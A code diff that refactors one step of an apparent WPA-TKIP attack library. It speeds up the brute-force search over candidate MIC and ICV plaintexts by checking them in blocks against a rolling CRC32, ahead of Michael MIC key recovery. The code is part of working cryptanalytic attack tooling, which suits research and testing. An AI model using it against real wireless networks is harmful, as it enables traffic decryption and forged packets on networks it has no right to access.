@@ -20,14 +20,13 @@ IP/port, TTL) via the IP and TCP checksums — implemented in
 from __future__ import annotations
 
 from dataclasses import dataclass
-from itertools import islice
 
 import numpy as np
 
-from ..core.candidates.lazy import lazy_candidates
+from ..core.candidates.lazy import lazy_candidate_blocks
 from ..core.likelihood.single import single_byte_log_likelihoods
 from ..errors import AttackError
-from .crc import Crc32
+from .crc import Crc32, crc32_rows
 from .injection import CaptureSet
 from .michael import michael, michael_header, recover_key
 from .packets import ICV_LEN, MIC_LEN
@@ -112,19 +111,29 @@ def decrypt_mic_icv(
     loglik = np.asarray(loglik, dtype=np.float64)
     if loglik.shape != (MIC_LEN + ICV_LEN, 256):
         raise AttackError(f"expected ({MIC_LEN + ICV_LEN}, 256) likelihoods")
-    prefix_crc = Crc32().update(known_data)
-    for rank, (candidate, _score) in enumerate(
-        islice(lazy_candidates(loglik), max_candidates)
-    ):
-        mic, icv_bytes = candidate[:MIC_LEN], candidate[MIC_LEN:]
-        if prefix_crc.copy().update(mic).digest() == icv_bytes:
+    prefix_state = Crc32().update(known_data).state
+    icv_shifts = np.uint32(8) * np.arange(ICV_LEN, dtype=np.uint32)
+    seen = 0
+    for rows, _scores in lazy_candidate_blocks(loglik):
+        rows = rows[: max_candidates - seen]
+        # One rolling-CRC pass over the 8 MIC columns, then compare the
+        # little-endian digest bytes against the 4 ICV columns.
+        crc = crc32_rows(prefix_state, rows[:, :MIC_LEN]) ^ np.uint32(0xFFFFFFFF)
+        digest = (crc[:, None] >> icv_shifts) & np.uint32(0xFF)
+        hits = np.nonzero((digest == rows[:, MIC_LEN:]).all(axis=1))[0]
+        if hits.size:
+            hit = int(hits[0])
+            mic = rows[hit, :MIC_LEN].tobytes()
             return TkipAttackResult(
                 mic=mic,
-                icv=icv_bytes,
+                icv=rows[hit, MIC_LEN:].tobytes(),
                 mic_key=b"",  # filled by the caller with addresses in hand
-                candidates_tried=rank + 1,
+                candidates_tried=seen + hit + 1,
                 correct=None if true_mic is None else mic == true_mic,
             )
+        seen += rows.shape[0]
+        if seen >= max_candidates:
+            break
     raise AttackError(
         f"no CRC-valid candidate within {max_candidates} candidates"
     )
